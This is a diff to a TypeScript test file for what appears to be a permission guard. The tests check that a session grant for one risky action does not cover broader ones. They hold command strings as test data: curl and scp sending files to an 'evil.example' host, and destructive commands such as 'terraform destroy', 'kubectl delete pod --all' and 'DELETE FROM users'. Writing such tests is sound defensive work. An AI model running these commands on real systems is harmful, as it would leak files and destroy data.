@@ -30,18 +30,49 @@ describe('P8: a grant for the session', () => {
   });
 
   it('covers files beside those it was given for, and none above', () => {
-    const files = (...paths: string[]) => finding('host-files.delete-outside', 'rm', { paths });
+    const files = (...paths: string[]) =>
+      finding('host-files.delete-outside', 'rm', { paths, threatens: 'host-files' });
     expect(covers(files('/srv/a/x'), files('/srv/a/y'))).toBe(true);
     expect(covers(files('/srv/a/x'), files('/srv/x'))).toBe(false);
+    expect(covers(files('/srv/a/x'), files('/srv/a'))).toBe(false);
     expect(covers(files('/srv/a/x'), files('/srv/a/x', '/etc/x'))).toBe(false);
   });
 
-  it('covers what a program is told to do, and not what else it can', () => {
-    const push = finding('vcs.force-push', 'git push --force origin main', { threatens: 'vcs' });
-    expect(covers(push, finding('vcs.force-push', 'git push -f origin main'))).toBe(true);
-    expect(covers(push, finding('vcs.force-push', 'git push -f upstream main'))).toBe(false);
-    const scale = finding('cloud.cluster', 'kubectl delete pod x', { threatens: 'cloud' });
-    expect(covers(scale, finding('cloud.cluster', 'kubectl delete ns prod'))).toBe(false);
+  it.each([
+    ['/opt', '/'],
+    ['/opt', '/home'],
+    ['~/old-project', '~'],
+    ['~/old-project', '~/other'],
+    ['~/.bashrc', '~/.profile'],
+    ['/etc/hosts', '/etc/passwd'],
+    ['/srv/a/*', '/srv/a/b'],
+    ['/home/me/x', '/home/me/y'],
+    ['./build', './src'],
+  ])('for %s does not cover %s', (granted, asked) => {
+    const files = (path: string) =>
+      finding('host-files.delete-outside', 'rm', { paths: [path], threatens: 'host-files' });
+    expect(covers(files(granted), files(granted))).toBe(true);
+    expect(covers(files(granted), files(asked))).toBe(false);
+  });
+
+  it('for files that are sent covers the same address only', () => {
+    const sent = (part: string) => finding('network.send-file', part, { paths: ['/srv/a/x'] });
+    const granted = sent('curl -T /srv/a/x https://good.example/u');
+    expect(covers(granted, sent('curl -F f=@/srv/a/x https://good.example/v'))).toBe(true);
+    expect(covers(granted, sent('curl -T /srv/a/x https://evil.example/u'))).toBe(false);
+    expect(covers(granted, sent('curl -T /srv/a/x "$URL"'))).toBe(false);
+    expect(covers(sent('scp /srv/a/x good.example:'), sent('scp /srv/a/x evil.example:'))).toBe(false);
+  });
+
+  it.each([
+    ['kubectl delete pod x', 'kubectl delete pod --all'],
+    ['terraform destroy -target=x', 'terraform destroy'],
+    ['git push -f', 'git push --mirror'],
+    ['DELETE FROM tmp', 'DELETE FROM users'],
+  ])('for %s does not cover %s', (granted, asked) => {
+    const deed = (part: string) => finding('cloud.cluster', part, { threatens: 'cloud' });
+    expect(covers(deed(granted), deed(` ${granted.replace(' ', '  ')}`))).toBe(true);
+    expect(covers(deed(granted), deed(asked))).toBe(false);
   });
 
   it('covers what nobody can foresee word for word only', () => {
